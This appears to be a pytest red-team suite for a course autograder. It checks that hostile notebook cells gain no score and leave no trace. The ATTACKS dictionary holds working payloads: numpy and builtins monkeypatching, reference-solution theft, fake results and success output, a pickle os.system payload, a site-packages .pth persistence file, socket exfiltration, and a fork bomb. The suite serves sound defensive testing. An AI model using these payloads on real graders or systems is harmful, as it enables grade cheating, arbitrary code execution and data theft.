"""Red team: hostile submissions earn nothing by their attack and leave no trace.

For every assignment, each attack is appended to a submission with a known mistake (the base);
both are graded in one run with the same seed, and the attacked copy may not score more than the
base on any question. Afterwards nothing the attacks tried to write exists, no process they
started is alive, and the submissions folder is unchanged.
"""

from __future__ import annotations

import hashlib
import os
import socket
import sys
import threading
from pathlib import Path
from string import Template

import pytest

from autograder.course import ASSIGNMENTS, assignment
from autograder.grading.executor import LocalExecutor
from autograder.grading.run import GradeRun, grade
from autograder.grading.sandbox import detect
from autograder.outputs.folder import GRADED_FILES, RUN_FILE
from autograder.outputs.gradebook import GRADEBOOK
from autograder.outputs.records import RECORDS
from autograder.outputs.results_json import RESULTS

from .factories import descendants

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples"
BASES = {
    "hw1": "flipped_kernel",
    "hw2": "missing_plus_one",
    "hw3": "lecture_values",
    "hw4": "forgot_biases",
    "hw5": "forgot_relu",
}
SITE_PACKAGES = Path(next(p for p in sys.path if p.endswith("site-packages")))

pytestmark = pytest.mark.slow

# Each attack is one cell; $values and $functions are the assignment's answer names, $canary a
# path on the grading host that must never come to exist, $port a listener on the host's loopback.
ATTACKS = {
    "patch_numpy": """
import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
""",
    "patch_builtins": """
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 0
builtins.abs = lambda x: 0
""",
    "import_reference": """
import importlib
for module in ("solutions.$hw", "autograder.course.hidden.$hw", "autograder.course"):
    try:
        found = importlib.import_module(module)
        for name in $values + $functions:
            if hasattr(found, name):
                globals()[name] = getattr(found, name)
        if hasattr(found, "lenet_table"):
            lenet_table = found.lenet_table()
    except Exception:
        pass
""",
    "walk_the_filesystem": """
import os
for top in ("/", "/work", "/root", "/home", "/tmp", os.path.expanduser("~")):
    for root, dirs, files in os.walk(top):
        if "proc" in root.split(os.sep)[:2] or "sys" in root.split(os.sep)[:2]:
            continue
        for name in files:
            if name in ("$hw.py", "$hw.ipynb") or name.startswith("q") and root.endswith("tests"):
                try:
                    text = open(os.path.join(root, name)).read()
                    exec(compile(text, name, "exec"), globals())
                except Exception:
                    pass
""",
    "inspect_the_stack": """
import inspect, sys
for frame_info in inspect.stack():
    for scope in (frame_info.frame.f_locals, frame_info.frame.f_globals):
        for key, value in list(scope.items()):
            if key in ("expected", "reference", "ref", "solutions") or "solution" in str(key):
                globals()["stolen_" + str(key)] = value
for name, module in list(sys.modules.items()):
    if "solution" in name or "hidden" in name:
        for answer in $values + $functions:
            if hasattr(module, answer):
                globals()[answer] = getattr(module, answer)
""",
    "read_environment": """
import os, json
secrets = {k: v for k, v in os.environ.items() if "SEED" in k or "GRADE" in k or "SOLUTION" in k}
print(json.dumps(secrets))
assert not secrets
""",
    "write_fake_results": """
import json, os
fake = {"score": 1000, "tests": [{"name": "q1", "score": 1000, "max_score": 1, "output": "ok"}],
        "values": {}, "calls": {}, "complete": True}
for path in ("results.json", "../result.json", "/tmp/result.json", "$out/gradebook.csv",
             "$out/results/attack.json", "$out/records/attack.json", "/autograder/results/results.json",
             "$canary"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as handle:
            json.dump(fake, handle)
    except Exception:
        pass
""",
    "print_fake_success": """
print("All test cases passed!")
print('{"score": 1000, "status": "ok"}')
print("E 1 0")
print("M 1 " + '{"final": {"complete": true, "values": {}, "calls": {}}}')
""",
    "always_equal_objects": """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *args, **kwargs):
        import numpy as np
        return np.zeros((4, 4))
    def __int__(self): return 0
    def __float__(self): return 0.0
    def __len__(self): return 4
    def __getitem__(self, index): return self
for name in $values:
    globals()[name] = Anything()
for name in $functions:
    globals()[name] = lambda *a, **k: Anything()
""",
    "ndarray_subclass": """
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
for name in $values:
    globals()[name] = np.zeros((4, 4)).view(Liar)
for name in $functions:
    globals()[name] = lambda *a, **k: np.zeros((4, 4)).view(Liar)
""",
    "smuggle_a_pickle": """
import pickle, os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch $canary",))
for name in $values:
    globals()[name] = {"__ndarray__": pickle.dumps(Payload()).hex(), "dtype": "object", "shape": [1]}
for name in $functions:
    globals()[name] = lambda *a, **k: pickle.dumps(Payload())
""",
    "drop_a_pth_file": """
import site, sys, os
targets = site.getsitepackages() + [p for p in sys.path if p.endswith("site-packages")]
for directory in targets + ["$site_packages"]:
    try:
        with open(os.path.join(directory, "zzz_cnngrade_attack.pth"), "w") as handle:
            handle.write("import os; os.system('touch $canary')\\n")
    except Exception:
        pass
""",
    "open_a_connection": """
import socket
for host in ("127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8"):
    try:
        with socket.create_connection((host, $port), timeout=1) as connection:
            connection.sendall(b"stolen")
    except Exception:
        pass
""",
    "fork_many": """
import os, time
children = 0
for _ in range(500):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError:
        break
""",
    "exit_early": """
import sys
sys.exit(0)
""",
    "hard_exit": """
import os
os._exit(0)
""",
}


class Listener:
    """A TCP listener on the host's loopback that records whether anything reached it."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen()
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.socket.close()


def require_sandbox() -> None:
    if not detect().isolated:
        if os.environ.get("CI"):
            pytest.fail(f"CI must run the red-team suite sandboxed: {detect().warning}")
        pytest.skip(f"no sandbox on this machine: {detect().warning}")


def attacked_notebook(base: Path, attack: str, target: Path) -> None:
    import nbformat

    notebook = nbformat.read(base, as_version=4)
    cell = nbformat.v4.new_code_cell(attack)
    cell["id"] = "attack"
    notebook.cells.append(cell)
    nbformat.write(notebook, target)


def folder_hash(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            digest.update(path.name.encode() + path.read_bytes())
    return digest.hexdigest()


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.mark.parametrize("name", sorted(ASSIGNMENTS))
def test_attacks_earn_nothing_and_leave_no_trace(name: str, tmp_path: Path, listener: Listener) -> None:
    require_sandbox()
    homework = assignment(name)
    submissions, out, canary = tmp_path / "submissions", tmp_path / "out", tmp_path / "canary" / "pwned"
    submissions.mkdir()
    base = EXAMPLES / name / f"{BASES[name]}.ipynb"
    (submissions / "base.ipynb").write_bytes(base.read_bytes())
    values = repr(list(homework.values))
    functions = repr(list(homework.functions))
    for attack, code in ATTACKS.items():
        cell = Template(code).substitute(
            hw=name,
            values=values,
            functions=functions,
            canary=canary,
            out=out,
            port=listener.port,
            site_packages=SITE_PACKAGES,
        )
        attacked_notebook(base, cell, submissions / f"{attack}.ipynb")
    before = folder_hash(submissions)
    # Processes other tests left to this session (a Dask cluster's helpers) are not the attacks'.
    already_running = set(descendants(os.getpid()))

    run: GradeRun = grade(
        assignment=name, submissions=submissions, out=out, seed=99, timeout=20, executor=LocalExecutor(2, detect())
    )

    rows = {result.submission: result for result in run.results}
    honest = rows["base"].question_scores()
    assert 0 < rows["base"].score < rows["base"].max_score
    gains = {
        attack: {q: score for q, score in rows[attack].question_scores().items() if score > honest[q]}
        for attack in ATTACKS
    }
    assert {attack: gained for attack, gained in gains.items() if gained} == {}
    assert not canary.exists() and not canary.parent.exists()
    assert not (SITE_PACKAGES / "zzz_cnngrade_attack.pth").exists()
    assert listener.connections == 0
    assert folder_hash(submissions) == before
    # Only what grade itself writes (GRADED_FILES: the gradebook, records, results, run.json, its lock): nothing of
    # a notebook's reached OUT.
    written = {p.name for p in out.iterdir()}
    assert {GRADEBOOK, RECORDS, RESULTS, RUN_FILE} <= written <= set(GRADED_FILES)
    assert sorted(p.stem for p in (out / "results").iterdir()) == sorted(rows)
    assert set(descendants(os.getpid())) - already_running == set(), "a submission's process outlived its grading"


def test_the_attacks_would_work_without_the_sandbox_checks(tmp_path: Path) -> None:
    # The suite proves something only if an attack can succeed when nothing stops it: run the
    # reference-import attack in-process, where solutions/ is importable.
    from autograder.checks.answers import LiveAnswers
    from autograder.checks.core import CheckFailed

    homework = assignment("hw4")
    namespace: dict = {}
    code = Template(ATTACKS["import_reference"]).substitute(
        hw="hw4", values=repr(list(homework.values)), functions=repr(list(homework.functions))
    )
    exec(code, namespace)
    failures = []
    for case in homework.cases(1):
        try:
            case.check(LiveAnswers(namespace))
        except CheckFailed:
            failures.append(case.id)
    assert failures == []
